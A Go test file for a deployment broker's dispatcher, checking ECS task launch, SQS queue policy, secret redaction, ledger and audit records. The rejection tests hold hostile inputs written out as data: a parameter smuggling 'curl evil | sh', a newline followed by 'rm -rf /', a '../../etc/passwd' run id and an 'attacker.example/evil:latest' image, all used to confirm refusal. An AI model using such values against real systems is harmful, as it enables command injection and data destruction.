package dispatcher_test

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	dbtypes "github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/aws/aws-sdk-go-v2/service/ecs"
	"github.com/aws/aws-sdk-go-v2/service/sqs"
	sqstypes "github.com/aws/aws-sdk-go-v2/service/sqs/types"

	"github.com/deploy-broker/deploy-broker/internal/dispatcher"
	"github.com/deploy-broker/deploy-broker/internal/ledger"
	"github.com/deploy-broker/deploy-broker/internal/protocol"
)

func str(t *testing.T, item map[string]dbtypes.AttributeValue, k string) string {
	t.Helper()
	v, ok := item[k].(*dbtypes.AttributeValueMemberS)
	if !ok {
		t.Fatalf("ledger attribute %s is %T, want a string", k, item[k])
	}
	return v.Value
}

func TestRunHappyPath(t *testing.T) {
	e := newEnv(t)
	r := e.request()
	b := e.body(r)
	if err := e.invoke(e.sns(b)); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()

	// One task, with the catalogue's argv, the run's environment, network, tags.
	arns := e.tasks(r.RunID)
	if len(arns) != 1 {
		t.Fatalf("run has %d tasks, want 1", len(arns))
	}
	task := e.describe(arns[0])
	if got := aws.ToString(task.StartedBy); got != r.RunID {
		t.Errorf("startedBy = %q, want the run id", got)
	}
	if !strings.Contains(aws.ToString(task.TaskDefinitionArn), "task-definition/"+e.name+"-website:") {
		t.Errorf("task definition %s, want family %s-website", aws.ToString(task.TaskDefinitionArn), e.name)
	}
	co := task.Overrides.ContainerOverrides
	if len(co) != 1 || aws.ToString(co[0].Name) != "runner" {
		t.Fatalf("container overrides %+v, want one for container runner", co)
	}
	wantArgv := []string{"/bin/sh", "jobs/website.sh", "--version", "1.4.2", "--colour=blue"}
	if !slices.Equal(co[0].Command, wantArgv) {
		t.Errorf("command = %q, want %q", co[0].Command, wantArgv)
	}
	queueURL, ok := e.queueURL(r.RunID)
	if !ok {
		t.Fatal("no run queue")
	}
	env := map[string]string{}
	for _, kv := range co[0].Environment {
		env[aws.ToString(kv.Name)] = aws.ToString(kv.Value)
	}
	wantEnv := map[string]string{
		protocol.EnvRunID: r.RunID, protocol.EnvQueueURL: queueURL, protocol.EnvJob: "website",
		protocol.EnvDeadline:  e.clock.Now().Add(10 * time.Minute).UTC().Format(time.RFC3339),
		protocol.EnvHeartbeat: "10s", protocol.EnvGrace: "30s",
		protocol.EnvRequester: e.id.ARN,
	}
	if fmt.Sprint(env) != fmt.Sprint(wantEnv) {
		t.Errorf("environment = %v\nwant %v", env, wantEnv)
	}
	tags := map[string]string{}
	for _, tg := range task.Tags {
		tags[aws.ToString(tg.Key)] = aws.ToString(tg.Value)
	}
	if tags[protocol.TagRunID] != r.RunID || tags[protocol.TagJob] != "website" || tags[protocol.TagRequester] != e.id.ARN {
		t.Errorf("task tags = %v", tags)
	}
	subnetOK := false
	for _, att := range task.Attachments {
		for _, d := range att.Details {
			if aws.ToString(d.Name) == "subnetId" && aws.ToString(d.Value) == e.set.Subnets[0] {
				subnetOK = true
			}
		}
	}
	if !subnetOK {
		t.Errorf("task is not attached to subnet %s: %+v", e.set.Subnets[0], task.Attachments)
	}

	// The queue: FIFO, SSE, tailing-friendly, locked down, tagged.
	attrs, err := e.sqs.GetQueueAttributes(ctx, &sqs.GetQueueAttributesInput{QueueUrl: aws.String(queueURL), AttributeNames: []sqstypes.QueueAttributeName{sqstypes.QueueAttributeNameAll}})
	if err != nil {
		t.Fatal(err)
	}
	for k, want := range map[string]string{"FifoQueue": "true", "ContentBasedDeduplication": "false", "SqsManagedSseEnabled": "true",
		"MessageRetentionPeriod": "345600", "VisibilityTimeout": "30", "ReceiveMessageWaitTimeSeconds": "20"} {
		if got := attrs.Attributes[k]; got != want {
			t.Errorf("queue attribute %s = %q, want %q", k, got, want)
		}
	}
	var policy struct {
		Statement []struct {
			Sid       string
			Effect    string
			Principal any
			Action    any
			Resource  string
			Condition map[string]map[string]any
		}
	}
	if err := json.Unmarshal([]byte(attrs.Attributes["Policy"]), &policy); err != nil {
		t.Fatalf("queue policy: %v\n%s", err, attrs.Attributes["Policy"])
	}
	queueARN := attrs.Attributes["QueueArn"]
	// RequesterReadsRun, the two Denies of issue 22 (queuepolicy_test.go)
	// and DenyInsecureTransport.
	if len(policy.Statement) != 4 {
		t.Fatalf("policy has %d statements, want 4: %s", len(policy.Statement), attrs.Attributes["Policy"])
	}
	allow, deny := policy.Statement[0], policy.Statement[3]
	// Only the verified requester's role reads the queue: not every
	// trusted principal (jenkins-deployer, extra-reader are not named).
	wantPrincipals := `map[AWS:arn:aws:iam::111111111111:root]`
	wantRoles := `[arn:aws:iam::111111111111:role/github-deployer arn:aws:iam::111111111111:role/*/github-deployer]`
	wantActions := `[sqs:ReceiveMessage sqs:DeleteMessage sqs:ChangeMessageVisibility sqs:GetQueueAttributes sqs:GetQueueUrl]`
	if allow.Effect != "Allow" || fmt.Sprint(allow.Principal) != wantPrincipals || fmt.Sprint(allow.Action) != wantActions || allow.Resource != queueARN ||
		len(allow.Condition) != 1 || fmt.Sprint(allow.Condition["ArnLike"]["aws:PrincipalArn"]) != wantRoles {
		t.Errorf("allow statement = %+v\nwant principal %s limited to %s, actions %s on %s", allow, wantPrincipals, wantRoles, wantActions, queueARN)
	}
	if deny.Effect != "Deny" || deny.Principal != "*" || deny.Action != "sqs:*" || deny.Resource != queueARN ||
		deny.Condition["Bool"]["aws:SecureTransport"] != "false" {
		t.Errorf("TLS deny statement = %+v", deny)
	}
	qt, err := e.sqs.ListQueueTags(ctx, &sqs.ListQueueTagsInput{QueueUrl: aws.String(queueURL)})
	if err != nil {
		t.Fatal(err)
	}
	wantTags := map[string]string{protocol.TagRunID: r.RunID, protocol.TagJob: "website",
		protocol.TagRequester: e.id.ARN, protocol.TagCreatedAt: protocol.RunIDTimeString(r.RunID),
		protocol.TagRequesterPrincipal: "arn:aws:iam::111111111111:role/github-deployer"}
	if fmt.Sprint(qt.Tags) != fmt.Sprint(wantTags) {
		t.Errorf("queue tags = %v\nwant %v", qt.Tags, wantTags)
	}

	// accepted names the task and the account.
	rec := e.only(r.RunID, protocol.TypeAccepted)
	want := protocol.Accepted{Job: "website", TaskARN: arns[0], Account: e.res.AccountID, AccountAlias: "acme-test", Region: e.res.Region, RequestedBy: e.id.ARN}
	if rec.Src != protocol.SourceDispatcher || rec.Seq != 1 || *rec.Accepted != want {
		t.Errorf("accepted record = %+v %+v, want %+v", rec, rec.Accepted, want)
	}

	// The ledger: who asked for what, when, with what result.
	item := e.rawItem(r.RunID)
	for k, want := range map[string]string{ledger.AttrRunID: r.RunID, ledger.AttrStatus: string(ledger.Accepted), ledger.AttrJob: "website",
		ledger.AttrRequester: "github-actions org/app@refs/heads/main by alice", ledger.AttrRequestedBy: e.id.ARN, ledger.AttrRequestHash: dispatcher.RequestHash(b),
		ledger.AttrRequestedAt: r.RequestedAt.UTC().Format(time.RFC3339Nano), ledger.AttrCreatedAt: e.clock.Now().Format(time.RFC3339Nano),
		ledger.AttrTaskARN: arns[0], ledger.AttrQueueURL: queueURL, ledger.AttrNotifiedAt: e.clock.Now().Format(time.RFC3339Nano)} {
		if got := str(t, item, k); got != want {
			t.Errorf("ledger %s = %q, want %q", k, got, want)
		}
	}
	if p, ok := item[ledger.AttrParams].(*dbtypes.AttributeValueMemberM); !ok || len(p.Value) != 1 || p.Value["version"].(*dbtypes.AttributeValueMemberS).Value != "1.4.2" {
		t.Errorf("ledger params = %#v", item[ledger.AttrParams])
	}
	ttl, _ := item[ledger.AttrExpiresAt].(*dbtypes.AttributeValueMemberN)
	if ttl == nil || ttl.Value != strconv.FormatInt(e.clock.Now().Add(90*24*time.Hour).Unix(), 10) {
		t.Errorf("ledger TTL = %#v, want created + 90 days", item[ledger.AttrExpiresAt])
	}
	if lease, err := time.Parse(time.RFC3339Nano, str(t, item, ledger.AttrLeaseUntil)); err != nil || !lease.After(e.clock.Now()) {
		t.Errorf("ledger lease_until = %v (%v), want after the claim", lease, err)
	}

	// One audit line with the decision.
	lines := e.auditsOf(r.RunID)
	if len(lines) != 1 {
		t.Fatalf("%d audit lines, want 1: %v", len(lines), lines)
	}
	a := lines[0]
	requester, _ := a["claimed_requester"].(map[string]any)
	if a["principal"] != e.id.ARN || a["decision"] != "accepted" || a["kind"] != "run" || a["job"] != "website" || a["task_arn"] != arns[0] ||
		fmt.Sprint(a["params"]) != "map[version:1.4.2]" || requester["ci"] != "github-actions" || requester["actor"] != "alice" || a["level"] != "INFO" {
		t.Errorf("audit line = %v", a)
	}
}

func TestRunSecretParamsAreRedactedAndRedactListPassed(t *testing.T) {
	e := newEnv(t)
	r := e.request(func(r *protocol.Request) {
		r.Job, r.Params = "migrate", map[string]string{"steps": "3", "token": "s3cr3tT0ken"}
	})
	if err := e.run(r); err != nil {
		t.Fatal(err)
	}
	arns := e.tasks(r.RunID)
	if len(arns) != 1 {
		t.Fatalf("%d tasks, want 1", len(arns))
	}
	co := e.describe(arns[0]).Overrides.ContainerOverrides[0]
	if want := []string{"/usr/local/bin/migrate", "--steps=3", "--token", "s3cr3tT0ken", "--dry-run=false"}; !slices.Equal(co.Command, want) {
		t.Errorf("command = %q, want %q", co.Command, want)
	}
	// The secret parameter's value reaches the runner as a variable named in
	// the redact list, so the runner masks it if the job prints its args.
	env := map[string]string{}
	for _, kv := range co.Environment {
		env[aws.ToString(kv.Name)] = aws.ToString(kv.Value)
	}
	if got := env["DEPLOY_BROKER_PARAM_TOKEN"]; got != "s3cr3tT0ken" {
		t.Errorf("DEPLOY_BROKER_PARAM_TOKEN = %q, want the secret parameter's value", got)
	}
	if got, want := env[protocol.EnvRedact], "API_KEY,DB_PASSWORD,DEPLOY_BROKER_PARAM_TOKEN"; got != want {
		t.Errorf("%s = %q, want %q", protocol.EnvRedact, got, want)
	}
	for k := range env {
		if strings.HasPrefix(k, protocol.EnvParamPrefix) && k != "DEPLOY_BROKER_PARAM_TOKEN" {
			t.Errorf("non-secret parameter passed as %s", k)
		}
	}
	if strings.Contains(e.logs.String(), "s3cr3tT0ken") {
		t.Errorf("the secret parameter's value reached the log:\n%s", e.logs.String())
	}
	if got := e.item(r.RunID).Params["token"]; got != "***" {
		t.Errorf("ledger keeps token = %q, want it redacted", got)
	}
	if a := e.auditsOf(r.RunID); len(a) != 1 || fmt.Sprint(a[0]["params"]) != "map[steps:3 token:***]" {
		t.Errorf("audit = %v", a)
	}
}

// A secret parameter that is not given (and has no default) adds nothing;
// a job without secrets gets no redact list.
func TestRunSecretParamEnvOnlyWhenThereIsAValue(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct {
		job    string
		params map[string]string
		redact string
	}{
		{"migrate", map[string]string{"steps": "3"}, "API_KEY,DB_PASSWORD"},
		{"website", map[string]string{"version": "1.4.2"}, ""},
	} {
		r := e.request(func(r *protocol.Request) { r.Job, r.Params = c.job, c.params })
		if err := e.run(r); err != nil {
			t.Fatal(err)
		}
		arns := e.tasks(r.RunID)
		if len(arns) != 1 {
			t.Fatalf("%s: %d tasks, want 1", c.job, len(arns))
		}
		env := map[string]string{}
		for _, kv := range e.describe(arns[0]).Overrides.ContainerOverrides[0].Environment {
			env[aws.ToString(kv.Name)] = aws.ToString(kv.Value)
		}
		for k := range env {
			if strings.HasPrefix(k, protocol.EnvParamPrefix) {
				t.Errorf("%s: %s set without a value", c.job, k)
			}
		}
		if got, ok := env[protocol.EnvRedact]; got != c.redact || ok != (c.redact != "") {
			t.Errorf("%s: %s = %q (set %v), want %q", c.job, protocol.EnvRedact, got, ok, c.redact)
		}
	}
}

// Only declared, non-secret parameters are kept in clear: a misspelt job or
// parameter name may carry a secret.
func TestParamsOfUnknownJobsAndUndeclaredParamsAreRedacted(t *testing.T) {
	e := newEnv(t)
	const secret = "s3cr3tT0ken"
	for _, c := range []struct {
		name, job string
		params    map[string]string
		want      string
	}{
		{"unknown job", "migrat", map[string]string{"steps": "3", "token": secret}, "map[steps:*** token:***]"},
		{"undeclared parameter", "migrate", map[string]string{"steps": "3", "tokne": secret}, "map[steps:3 tokne:***]"},
		{"declared secret with a bad value", "migrate", map[string]string{"steps": "3", "token": secret + "!"}, "map[steps:3 token:***]"},
		{"expired past its proof, of an unknown job", "webiste", map[string]string{"token": secret}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			now := e.clock.Now()
			r := e.request(func(r *protocol.Request) {
				r.Job, r.Params = c.job, c.params
				if strings.HasPrefix(c.name, "expired past") {
					r.RequestedAt, r.ExpiresAt = now.Add(-10*time.Minute), now.Add(-5*time.Minute)
				}
			})
			if err := e.run(r); err != nil {
				t.Fatal(err)
			}
			if c.want == "" {
				// Refused with its proof: no queue, no ledger item, and the
				// audit line carries no parameter at all.
				if _, ok := e.queueURL(r.RunID); ok {
					t.Errorf("a refused request has a queue")
				}
				if a := e.auditsOf(r.RunID); len(a) != 1 || a[0]["decision"] != "refused" || a[0]["params"] != nil {
					t.Errorf("audit = %v, want one refused line without params", a)
				}
				return
			}
			if rec := e.records(r.RunID); len(rec) != 1 || rec[0].Type != protocol.TypeRejected {
				t.Fatalf("records %+v, want one rejected", rec)
			}
			if got := fmt.Sprint(e.item(r.RunID).Params); got != c.want {
				t.Errorf("ledger params = %s, want %s", got, c.want)
			}
			if a := e.auditsOf(r.RunID); len(a) != 1 || fmt.Sprint(a[0]["params"]) != c.want {
				t.Errorf("audit = %v, want params %s", a, c.want)
			}
		})
	}
	if strings.Contains(e.logs.String(), secret) {
		t.Errorf("a parameter value under a wrong name reached the log:\n%s", e.logs.String())
	}
}

func TestRunDuplicateDeliveryLaunchesOnce(t *testing.T) {
	e := newEnv(t)
	r := e.request()
	payload := e.sns(e.body(r))
	for i := 0; i < 3; i++ {
		if err := e.invoke(payload); err != nil {
			t.Fatalf("delivery %d: %v", i+1, err)
		}
	}
	if arns := e.tasks(r.RunID); len(arns) != 1 {
		t.Fatalf("3 deliveries started %d tasks, want 1", len(arns))
	}
	e.only(r.RunID, protocol.TypeAccepted)
	var decisions []string
	for _, a := range e.auditsOf(r.RunID) {
		decisions = append(decisions, a["decision"].(string))
	}
	if fmt.Sprint(decisions) != "[accepted duplicate duplicate]" {
		t.Errorf("decisions = %v", decisions)
	}

	// The same run id in a different request is refused, and the first
	// run's queue is left alone.
	r2 := *r
	r2.Params = map[string]string{"version": "9.9.9"}
	r2.Proof = nil // signed afresh: a copied proof would not verify
	if err := e.run(&r2); err != nil {
		t.Fatal(err)
	}
	if arns := e.tasks(r.RunID); len(arns) != 1 {
		t.Fatalf("replayed run id started a task")
	}
	e.only(r.RunID, protocol.TypeAccepted)
	lines := e.auditsOf(r.RunID)
	if last := lines[len(lines)-1]; last["decision"] != "replayed" {
		t.Errorf("reused run id audit = %v", last)
	}
}

func TestRunRejections(t *testing.T) {
	e := newEnv(t)
	now := e.clock.Now()
	params := func(job string, p map[string]string) func(*protocol.Request) {
		return func(r *protocol.Request) { r.Job, r.Params = job, p }
	}
	cases := []struct {
		name   string
		mutate func(*protocol.Request)
		code   string
		reason string
	}{
		// An expired request is refused with its proof, which is bound to
		// expires_at + clock_skew, before this check: nothing is created
		// (TestParamsOfUnknownJobsAndUndeclaredParamsAreRedacted, and the
		// hostile suite's stale proof).
		{"future-dated", func(r *protocol.Request) {
			r.RequestedAt, r.ExpiresAt = now.Add(5*time.Minute), now.Add(10*time.Minute)
		},
			protocol.RejectExpired, "in the future of the broker's clock"},
		{"too-long validity", func(r *protocol.Request) { r.ExpiresAt = now.Add(time.Hour) },
			protocol.RejectExpired, "longer than the broker's limit of 15m0s"},
		{"old run id", func(r *protocol.Request) { r.RunID = protocol.NewRunID(now.Add(-time.Hour)) },
			protocol.RejectReplayed, "make a new run id for every run"},
		{"run id from the future", func(r *protocol.Request) { r.RunID = protocol.NewRunID(now.Add(time.Hour)) },
			protocol.RejectReplayed, "make a new run id for every run"},
		{"unknown job", params("drop-database", nil), protocol.RejectUnknownJob, `job "drop-database" is not in this broker's catalogue (jobs: migrate, website)`},
		{"undeclared param", params("website", map[string]string{"version": "1.0.0", "image": "evil"}), protocol.RejectBadParams, `parameter "image" is not declared (declared: colour, version)`},
		{"missing required", params("website", map[string]string{}), protocol.RejectBadParams, `parameter "version" is required`},
		{"pattern", params("website", map[string]string{"version": "1.4"}), protocol.RejectBadParams, `parameter "version" does not match the pattern`},
		{"shell metacharacters", params("website", map[string]string{"version": "1.4.2; curl evil | sh"}), protocol.RejectBadParams, `parameter "version" does not match the pattern`},
		{"too long", params("website", map[string]string{"version": strings.Repeat("1", 40) + ".0.0"}), protocol.RejectBadParams, `must be 0 to 32 bytes long, not 44`},
		{"enum", params("website", map[string]string{"version": "1.0.0", "colour": "red"}), protocol.RejectBadParams, `parameter "colour" must be one of blue, green`},
		{"int range", params("migrate", map[string]string{"steps": "11"}), protocol.RejectBadParams, `parameter "steps" must be at most 10`},
		{"int type", params("migrate", map[string]string{"steps": "0x3"}), protocol.RejectBadParams, `parameter "steps" must be a whole number`},
		{"bool", params("migrate", map[string]string{"steps": "1", "dry_run": "yes"}), protocol.RejectBadParams, `parameter "dry_run" must be true or false`},
		{"newline", params("website", map[string]string{"version": "1.4.2\nrm -rf /"}), protocol.RejectBadParams, `parameter "version" contains a control character`},
		{"escape", params("website", map[string]string{"version": "\x1b[31m1.4.2"}), protocol.RejectBadParams, `parameter "version" contains a control character`},
		{"secret value is not echoed", params("migrate", map[string]string{"steps": "1", "token": "hunter2!"}), protocol.RejectBadParams, `parameter "token" does not match the pattern`},
	}
	parent := t
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			e.t = t
			defer func() { e.t = parent }()
			r := e.request(c.mutate)
			if err := e.run(r); err != nil {
				t.Fatal(err)
			}
			rec := e.only(r.RunID, protocol.TypeRejected)
			if rec.Rejected.Code != c.code || !strings.Contains(rec.Rejected.Reason, c.reason) || strings.ContainsAny(rec.Rejected.Reason, "\n\r\x1b") {
				t.Errorf("rejected = %+v, want code %s and a one-line reason containing %q", rec.Rejected, c.code, c.reason)
			}
			if strings.Contains(rec.Rejected.Reason, "hunter2") {
				t.Errorf("rejection echoes a secret value: %s", rec.Rejected.Reason)
			}
			if arns := e.tasks(r.RunID); len(arns) != 0 {
				t.Errorf("a rejected run started tasks %v", arns)
			}
			it := e.item(r.RunID)
			if it.Status != ledger.Rejected || it.RejectCode != c.code || it.Reason != rec.Rejected.Reason || it.EndedAt.IsZero() {
				t.Errorf("ledger = %+v", it)
			}
			lines := e.auditsOf(r.RunID)
			if len(lines) != 1 || lines[0]["decision"] != "rejected" || lines[0]["reason"] != rec.Rejected.Reason || lines[0]["task_arn"] != nil {
				t.Errorf("audit = %v", lines)
			}
			// A second delivery of a rejected request repeats nothing.
			if err := e.run(r); err != nil {
				t.Fatal(err)
			}
			e.only(r.RunID, protocol.TypeRejected)
		})
	}
	if strings.Contains(e.logs.String(), "hunter2") {
		t.Errorf("a secret parameter's value reached the log")
	}
}

func TestMalformedRequestsOnlyAudit(t *testing.T) {
	e := newEnv(t)
	good := e.body(e.request())
	var valid map[string]any
	_ = json.Unmarshal(good, &valid)
	edit := func(f func(m map[string]any)) []byte {
		m := map[string]any{}
		_ = json.Unmarshal(good, &m)
		f(m)
		b, _ := json.Marshal(m)
		return b
	}
	cases := map[string]struct {
		body   []byte
		reason string
	}{
		"not JSON":        {[]byte("deploy website please"), "malformed JSON"},
		"empty":           {[]byte(""), "is empty"},
		"unknown field":   {edit(func(m map[string]any) { m["image"] = "evil:latest" }), `unknown field "image"`},
		"wrong version":   {edit(func(m map[string]any) { m["v"] = 3 }), "protocol version 3"},
		"old trigger":     {edit(func(m map[string]any) { m["v"] = 1; delete(m, "proof") }), "from a deploy-trigger that sends no proof of identity"},
		"missing run id":  {edit(func(m map[string]any) { delete(m, "run_id") }), "run id"},
		"bad run id":      {edit(func(m map[string]any) { m["run_id"] = "../../etc/passwd" }), "26-character ULID"},
		"missing expiry":  {edit(func(m map[string]any) { delete(m, "expires_at") }), "must carry requested_at and expires_at"},
		"wrong type":      {edit(func(m map[string]any) { m["params"] = map[string]any{"version": 1.4} }), `must be a string`},
		"trailing data":   {append(append([]byte{}, good...), []byte(`{"v":1}`)...), "after the JSON object"},
		"oversize":        {edit(func(m map[string]any) { m["job"] = strings.Repeat("x", 300*1024) }), "over the 262144-byte limit"},
		"no requester":    {edit(func(m map[string]any) { delete(m, "requester") }), "has no requester"},
		"cancel with job": {edit(func(m map[string]any) { m["kind"] = "cancel" }), "may carry only"},
		"unknown kind":    {edit(func(m map[string]any) { m["kind"] = "exec" }), `kind "exec" is unknown`},
	}
	parent := t
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			e.t = t
			defer func() { e.t = parent }()
			before := len(e.audits())
			if err := e.invoke(e.sns(c.body)); err != nil {
				t.Fatal(err)
			}
			lines := e.audits()[before:]
			if len(lines) != 1 || lines[0]["decision"] != "malformed" || !strings.Contains(fmt.Sprint(lines[0]["reason"]), c.reason) {
				t.Errorf("audit = %v, want one malformed line with %q", lines, c.reason)
			}
		})
	}
	if n := e.queueCount(); n != 0 {
		t.Errorf("malformed requests created %d queues", n)
	}
	// The run id of a malformed request is in its audit line when well-formed.
	id := valid["run_id"].(string)
	if lines := e.auditsOf(id); len(lines) == 0 {
		t.Errorf("no audit line names run %s", id)
	}
}

// The dispatcher runs exactly the revision the stack (here: local mode's
// provisioning) pinned for the job, never the family's latest: a revision
// registered later in a broker family by anyone who may register one, with
// another image and task role, is not run.
func TestRunRunsOnlyThePinnedRevision(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	pinned := e.res.TaskDefinitions["website"]
	if pinned == "" {
		t.Fatal("provisioning pinned no revision for website")
	}
	// GIVEN a newer revision in the job's family, registered behind the
	// broker's back
	td, err := e.ecs.DescribeTaskDefinition(ctx, &ecs.DescribeTaskDefinitionInput{TaskDefinition: aws.String(pinned)})
	if err != nil {
		t.Fatal(err)
	}
	def := td.TaskDefinition
	def.ContainerDefinitions[0].Image = aws.String("attacker.example/evil:latest")
	later, err := e.ecs.RegisterTaskDefinition(ctx, &ecs.RegisterTaskDefinitionInput{
		Family: def.Family, NetworkMode: def.NetworkMode, RequiresCompatibilities: def.RequiresCompatibilities,
		Cpu: def.Cpu, Memory: def.Memory, ContainerDefinitions: def.ContainerDefinitions,
		TaskRoleArn: aws.String("arn:aws:iam::" + e.res.AccountID + ":role/another-jobs-role"),
	})
	if err != nil {
		t.Fatal(err)
	}
	if aws.ToString(later.TaskDefinition.TaskDefinitionArn) == pinned {
		t.Fatal("the emulator did not register a new revision")
	}
	// WHEN a run of the job is requested
	r := e.request()
	if err := e.run(r); err != nil {
		t.Fatal(err)
	}
	// THEN its task runs the pinned revision
	arns := e.tasks(r.RunID)
	if len(arns) != 1 {
		t.Fatalf("run has %d tasks, want 1", len(arns))
	}
	if got := aws.ToString(e.describe(arns[0]).TaskDefinitionArn); got != pinned {
		t.Errorf("task runs %s, want the pinned %s", got, pinned)
	}
}

// A job without a pinned revision is refused (launch-failed), with a reason
// that says what to do, and no task is started.
func TestRunRefusesAJobWithoutAPinnedRevision(t *testing.T) {
	e := newEnv(t, func(s *dispatcher.Settings, _ *dispatcher.Clients) {
		s.TaskDefinitions = map[string]string{"migrate": s.TaskDefinitions["migrate"]}
	})
	r := e.request()
	if err := e.run(r); err != nil {
		t.Fatal(err)
	}
	rec := e.only(r.RunID, protocol.TypeRejected)
	if rec.Rejected.Code != protocol.RejectLaunch || !strings.Contains(rec.Rejected.Reason, "job website has no pinned task definition revision") ||
		!strings.Contains(rec.Rejected.Reason, protocol.EnvTaskRevisions) {
		t.Errorf("rejected = %+v", rec.Rejected)
	}
	if arns := e.tasks(r.RunID); len(arns) != 0 {
		t.Errorf("tasks %v started for a job without a pinned revision", arns)
	}
}
